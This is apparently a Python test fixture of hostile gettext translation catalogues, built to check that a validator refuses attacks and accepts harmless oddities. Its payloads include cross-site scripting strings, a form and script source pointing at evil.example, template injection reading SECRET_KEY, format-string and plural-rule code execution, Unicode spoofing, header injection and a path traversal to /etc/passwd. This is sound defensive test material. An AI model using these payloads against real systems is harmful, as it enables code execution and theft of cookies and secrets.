"""Catalogues as attackers make them, each a name and the bytes of a file that claims to be English."""

import gzip
import struct

PLAIN = "Mitt program"
SLOT = "Er du fortsatt syk %(day)s, kan kommunen be om legeerklæring fra den dagen."
DAYS = ("Fraværet er på %(num)s kalenderdag.", "Fraværet er på %(num)s kalenderdager.")
SCRIPT = "<script>alert(1)</script>"
HEAD = 'msgid ""\nmsgstr ""\n"Language: en\\n"\n"Content-Type: text/plain; charset=UTF-8\\n"\n'


def quoted(text: str) -> str:
    """The text as a file quotes it."""
    return text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\r", "\\r")


def one(text: str, msgid: str = PLAIN, *, head: str = HEAD, before: str = "") -> bytes:
    """A file with one sentence."""
    return f'{head}\n{before}msgid "{quoted(msgid)}"\nmsgstr "{quoted(text)}"\n'.encode(
        "utf-8", "surrogatepass"
    )


def raw(lines: str, *, head: str = HEAD) -> bytes:
    """A file with these lines after its header."""
    return f"{head}\n{lines}\n".encode()


def forms(*texts: str, rule: str = "nplurals=2; plural=(n != 1);") -> bytes:
    """A file with one sentence of plural forms, and a rule of its own."""
    head = HEAD + f'"Plural-Forms: {rule}\\n"\n'
    numbered = "\n".join(f'msgstr[{index}] "{quoted(text)}"' for index, text in enumerate(texts))
    return raw(f'msgid "{DAYS[0]}"\nmsgid_plural "{DAYS[1]}"\n{numbered}', head=head)


_SAID = ("Absence of %(num)s day", "Absence of %(num)s days")
_NAMED = f'msgid "{PLAIN}"\n'

REFUSED: dict[str, bytes] = {
    # What a browser might run.
    "script": one(SCRIPT),
    "script in capitals": one("<SCRIPT SRC=//evil.example>"),
    "image with a handler": one('<img src=x onerror="alert(1)">'),
    "svg with a handler": one("<svg/onload=alert(1)>"),
    "style": one("<style>*{display:none}</style>"),
    "frame": one('<iframe src="/work"></iframe>'),
    "form": one('<form action="https://evil.example"><input name="pin">'),
    "end of the title": one(f"</title>{SCRIPT}"),
    "end of a link": one("</a></li></ul>"),
    "comment": one("<!-- "),
    "declaration": one("<!DOCTYPE html><!ENTITY a 'b'>"),
    "cdata": one(f"<![CDATA[{SCRIPT}]]>"),
    "math": one("<math><mtext><mglyph><style><img src=x onerror=alert(1)>"),
    "octal escapes": raw(_NAMED + r'msgstr "\074script\076alert(1)\074/script\076"'),
    "hexadecimal escapes": raw(_NAMED + r'msgstr "\x3cscript\x3e"'),
    "escapes of other languages": raw(_NAMED + r'msgstr "\u003cscript\u003e"'),
    "a link that is code": one("javascript:alert(document.cookie)"),
    "a link of data": one("data:text/html;base64,PHNjcmlwdD4="),
    "a strange address": one("Read more at evil.example/login"),
    "an address of mail": one("Write to help@evil.example"),
    "templates' values": one("{{ config.SECRET_KEY }}"),
    "templates' code": one("{% for x in ().__class__.__base__.__subclasses__() %}"),
    "templates' comments": one("{# what follows is gone"),
    # What a format could do.
    "attributes in a slot": one("If you are ill on %(day.__class__)s", SLOT),
    "items in a slot": one("If you are ill on %(day[0])s", SLOT),
    "a wide slot": one("If you are ill on %(day)99999999s", SLOT),
    "a precise slot": one("If you are ill on %(day).99999999s", SLOT),
    "a starred slot": one("If you are ill on %*d", SLOT),
    "a nameless slot": one("If you are ill on %s", SLOT),
    "a slot too many": one("If you are ill on %(day)s, %(password)s", SLOT),
    "a slot twice": one("If you are ill on %(day)s %(day)s", SLOT),
    "a slot too few": one("If you are ill, the municipality can ask", SLOT),
    "a slot where none belongs": one("My %(day)s programme"),
    "a lone percent sign": one("If you are ill on %(day)s, 100 % sure", SLOT),
    "slots that never end": one("%(" * 100, SLOT),
    # What a reader sees otherwise than it is.
    "direction overridden": one("My \u202eemmargorp"),
    "direction isolated": one("My \u2066programme"),
    "letters of two alphabets": one("My pаypаl programme"),
    "a stretched letter": one("برنامـــج"),
    "other digits": one("If you are ill on %(day)s, ٣", SLOT),
    "another number": one("Call 815 22 222"),
    "tags of Unicode": one("My \U000e0041\U000e0042programme"),
    "letters of nobody": one("My \ue000 programme"),
    "a pile of accents": one("M" + "\u0316" * 60 + "y"),
    "half a letter": one("My \ud800 programme"),
    "zero bytes": one("My \x00 programme"),
    "a bell": one("My \x07 programme"),
    "a line break": one("My programme\nBcc: everybody@evil.example"),
    "a line break of Unicode": one("My\u2028programme"),
    "a returned carriage": one("My programme\rX"),
    "very long": one("My programme " * 1000),
    "a line without end": one("x" * 2_000_000),
    "a word without end": one("a." * 120),
    # What a count could do.
    "a form too many": forms(*_SAID, "many"),
    "a form too few": forms(_SAID[0]),
    "a form empty": forms(_SAID[0], ""),
    "forms for one sentence": raw(_NAMED + 'msgstr[0] "My"\nmsgstr[1] "Ours"'),
    "the sixth form alone": raw(f'msgid "{DAYS[0]}"\nmsgid_plural "{DAYS[1]}"\nmsgstr[5] "x"'),
    "the thousandth form": raw(f'msgid "{DAYS[0]}"\nmsgid_plural "{DAYS[1]}"\nmsgstr[999] "x"'),
    "a thousand million forms": forms(*_SAID, rule="nplurals=999999999; plural=0;"),
    "a rule that divides by zero": forms(*_SAID, rule="nplurals=2; plural=n%0;"),
    "a rule that runs": forms(*_SAID, rule="nplurals=2; plural=__import__('os').abort();"),
    "a deep rule": forms(*_SAID, rule="nplurals=2; plural=" + "(" * 5000 + "n" + ")" * 5000 + ";"),
    "a rule that grows": forms(*_SAID, rule="nplurals=2; plural=" + "*".join(["99999999"] * 60) + ";"),
    # What a file could be.
    "letters of utf-7": one("+ADw-script+AD4-alert(1)", head=HEAD.replace("UTF-8", "utf-7")),
    "utf-16": one(SCRIPT).decode().encode("utf-16"),
    "utf-32": one(SCRIPT).decode().encode("utf-32"),
    "latin letters": one("Måned").decode().encode("latin-1"),
    "overlong letters": raw(_NAMED + 'msgstr "@"').replace(b"@", b"\xc0\xbcscript\xc0\xbe"),
    "three megabytes": b"# " + b"x" * 3_000_000 + b"\n" + one("My programme"),
    "a binary catalogue": struct.pack("<7I", 0x950412DE, 0, 1, 28, 36, 0, 44) + b"\x00" * 60,
    "packed": gzip.compress(one("My programme")),
    "a web page": f"<!doctype html><html>{SCRIPT}</html>".encode(),
    "an open quote": raw('msgid "Mitt program\nmsgstr "x"'),
    "a quote that never began": raw(f'{_NAMED}msgstr x"'),
    "a sentence twice": one("My programme") + b"\n" + one("My other programme", head=""),
    "a translation twice": raw(f'{_NAMED}msgstr "My programme"\nmsgstr "{SCRIPT}"'),
    "a translation of nothing": raw(f'msgstr "{SCRIPT}"'),
    "another domain": raw(f'domain "../../etc/passwd"\n{_NAMED}msgstr "x"'),
    "nothing at all": b"",
    "only blank lines": b"\n" * 100_000,
}
"""What a check refuses."""

HARMLESS: dict[str, bytes] = {
    "script in the header": one("My programme", head=HEAD + f'"X-Note: {SCRIPT}\\n"\n'),
    "script in a comment": one("My programme", before=f"# {SCRIPT}\n#. {SCRIPT}\n#: {SCRIPT}:1\n"),
    "script in what was before": one("My programme", before=f'#, fuzzy\n#| msgid "{SCRIPT}"\n'),
    "script in a fuzzy text": one(SCRIPT, before="#, fuzzy\n"),
    "script in what is gone": one("My programme") + f'\n#~ msgid "x"\n#~ msgstr "{SCRIPT}"\n'.encode(),
    "script for a sentence that nobody says": one("script alert", "Nobody says so"),
    "ten thousand lines of header": one("My programme", head=HEAD + '"X: y\\n"\n' * 10_000),
    "twenty thousand sentences": HEAD.encode()
    + "".join(f'\nmsgid "s{number}"\nmsgstr "t"\n' for number in range(20_000)).encode(),
    "a context with a zero byte": raw(f'msgctxt "\x00\x04"\n{_NAMED}msgstr "My programme"'),
    "braces of other languages": one("My {x.__class__} programme ${x}"),
    "markings": one("**My** [programme] `x`"),
}
"""What a check lets pass because nobody can be hurt by it."""

HOSTILE = {**REFUSED, **HARMLESS}
